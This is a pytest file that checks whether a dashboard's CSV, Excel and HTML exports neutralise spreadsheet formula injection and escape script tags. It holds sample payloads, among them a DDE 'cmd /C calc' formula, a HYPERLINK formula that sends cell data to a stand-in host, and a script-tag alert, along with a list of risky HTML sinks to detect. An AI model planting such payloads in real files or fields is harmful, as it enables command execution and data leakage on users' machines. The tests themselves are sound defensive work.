"""Exports are safe to open: no text runs as a spreadsheet formula, no user text as HTML.

A site id, site name or scenario name is whatever a commissioner (or a file they were
sent) typed. In CSV and Excel files a text cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading apostrophe, so the spreadsheet shows it
as text (OWASP CSV-injection guidance); numbers stay numbers. The HTML report escapes
every name, so ``<script>`` shows as text.
"""

from __future__ import annotations

import base64
import csv
import io
import sys
import types
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dashapp import exports, state
from pathways import io as pio
from pathways.kpis import evaluate
from pathways.plan import baseline_plan

ATTACKS = [
    "=SUM(1,1)",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
#: A bare carriage return inside a name would start a new row in a spreadsheet.
EMBEDDED_CR = "Ward\r=1+1"
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """The page modules (they register themselves with the app that runs them)."""
    from dashapp.app import create_app

    if "dashapp.pages.export" not in sys.modules:
        create_app(cache_dir=tmp_path_factory.mktemp("app-cache"))
    return types.SimpleNamespace(export=sys.modules["dashapp.pages.export"])


@pytest.fixture(scope="module")
def hostile() -> dict:
    """The demo scenario with site ids, site names and the scenario's name set to attacks."""
    data = state.scenario_to_store(state.demo_scenario())
    for k, attack in enumerate(ATTACKS):
        data["sites"][k]["site_id"] = attack
        data["sites"][k + len(ATTACKS)]["name"] = attack
    data["sites"][2 * len(ATTACKS)]["name"] = SCRIPT
    data["sites"][2 * len(ATTACKS) + 1]["site_id"] = SCRIPT
    data["sites"][2 * len(ATTACKS) + 2]["name"] = EMBEDDED_CR
    data["name"] = "=1+1 " + SCRIPT
    data["description"] = SCRIPT
    return state.scenario_to_store(state.scenario_from_store(data))


def _live(value) -> bool:
    """Would a spreadsheet run this cell's text as a formula?"""
    return isinstance(value, str) and value.startswith(pio.FORMULA_TRIGGERS)


def _csv_cells(text: str) -> list[str]:
    """Every cell of a CSV, after the ``#`` lines of settings at its top."""
    lines = text.split("\n")
    while lines and lines[0].startswith("#"):
        lines.pop(0)
    rows = csv.reader(io.StringIO("\n".join(lines), newline=""))
    return [cell for row in rows for cell in row]


def _workbook(payload: dict) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(base64.b64decode(payload["content"])))


# --------------------------------------------------------------------------- the rule


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(attack):
    assert pio.neutralise_text(attack) == "'" + attack


@pytest.mark.parametrize("value", ["-5", "+12", "-3.4%", "1,000", "-1e-3", "Mill View", "", "[c]"])
def test_plain_text_and_numbers_in_text_are_left_alone(value):
    assert pio.neutralise_text(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, None, True])
def test_values_that_are_not_text_are_left_alone(value):
    assert pio.neutralise_text(value) is value


def test_safe_cells_neutralises_cells_index_and_headings_but_keeps_numbers():
    frame = pd.DataFrame(
        {"=name": ["=A1", "ok"], "beds": [-3, 4]}, index=pd.Index(["@x", "y"], name="+id")
    )
    out = pio.safe_cells(frame)
    assert out.columns.tolist() == ["'=name", "beds"] and out.index.name == "'+id"
    assert out.index.tolist() == ["'@x", "y"] and out["'=name"].tolist() == ["'=A1", "ok"]
    assert out["beds"].tolist() == [-3, 4] and out["beds"].dtype.kind == "i"
    assert frame.index.tolist() == ["@x", "y"]  # the input is not changed


def test_safe_cells_handles_a_multi_index():
    frame = pd.DataFrame({"v": [1, 2]}, index=pd.MultiIndex.from_tuples([("=a", 1), ("b", 2)]))
    assert pio.safe_cells(frame).index.tolist() == [("'=a", 1), ("b", 2)]


# --------------------------------------------------------------------------- app exports


def test_the_app_excel_workbook_holds_no_formula(pages, hostile):
    wb = _workbook(pages.export.make_file("export-xlsx", hostile, None, True))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [(c.parent.title, c.coordinate, c.value) for c in cells if _live(c.value)]
    ids = [r[0] for r in wb["Plan by site"].iter_rows(min_row=2, values_only=True)]
    # the data is all there, shown as text
    assert {"'" + a for a in ATTACKS} <= set(ids) and SCRIPT in ids
    numbers = [c.value for c in cells if isinstance(c.value, int | float)]
    assert len(numbers) > 100  # numbers stay numbers


@pytest.mark.parametrize("kind", ["export-csv", "export-sites-csv"])
def test_the_app_csv_files_hold_no_formula(pages, hostile, kind):
    text = pages.export.make_file(kind, hostile, None, True)["content"]
    cells = _csv_cells(text)
    assert cells and not [c for c in cells if _live(c)]
    assert "\r" not in text  # no bare carriage return to split a row on
    if kind == "export-sites-csv":
        # a carriage return becomes a line feed (so the cell is quoted), after the apostrophe
        assert {"'" + a.replace("\r", "\n") for a in ATTACKS} <= set(cells)
        assert EMBEDDED_CR.replace("\r", "\n") in cells


def test_library_writers_hold_no_formula(hostile, tmp_path):
    scenario = state.scenario_from_store(hostile)
    card = evaluate(scenario)
    xlsx = pio.write_xlsx(scenario, {"current": card}, tmp_path / "plan.xlsx",
                          plan=baseline_plan(scenario))  # fmt: skip
    wb = openpyxl.load_workbook(xlsx)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f" or _live(c.value)]
    scorecard = pio.write_scorecard_csv({"=evil plan": card}, tmp_path / "scorecard.csv")
    cells = _csv_cells(scorecard.read_text())
    assert "'=evil plan" in cells and not [c for c in cells if _live(c)]


def test_exports_module_csvs_hold_no_formula(hostile):
    scenario = state.scenario_from_store(hostile)
    cards, plan = exports.export_cards(scenario, None)
    for text in (exports.scorecard_csv(cards), exports.sites_csv(scenario, plan, cards["current"])):
        assert not [c for c in _csv_cells(text) if _live(c)]


# --------------------------------------------------------------------------- HTML


def test_the_report_escapes_every_name(pages, hostile):
    report = pages.export.make_file("export-html", hostile, None, True)["content"]
    assert "<script" not in report.lower()
    assert report.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 3  # title, heading, description


def test_the_report_escapes_site_names_in_the_changes_table(hostile):
    scenario = state.scenario_from_store(hostile)
    evil = next(s for s in scenario.sites if s.name == SCRIPT)
    base = baseline_plan(scenario)
    sites = tuple(
        sp.model_copy(update={"capacity": sp.capacity.model_copy(update={"mobile_teams": 3})})
        if sp.site_id == evil.site_id else sp
        for sp in base.sites
    )  # fmt: skip
    plan = base.model_copy(update={"sites": sites, "name": "optimised"})
    cards = {"current": evaluate(scenario), "optimised": evaluate(scenario, plan)}
    report = exports.report_html(scenario, cards, plan)
    assert "What changes, site by site" in report and "<script" not in report.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report.split("What changes")[1]


def test_no_page_renders_user_text_as_html():
    """React escapes text; these are the ways round it, and the app uses none of them."""
    import dashapp

    root = Path(dashapp.__file__).parent
    risky = (
        "dangerously_allow_html",
        "Markdown(",
        '"markdown"',
        "'markdown'",
        "srcDoc",
        "innerHTML",
    )
    found = [
        (str(path.relative_to(root)), word)
        for path in sorted(root.rglob("*.py")) + sorted(root.rglob("*.js"))
        for word in risky
        if word in path.read_text(encoding="utf-8")
    ]
    assert found == []
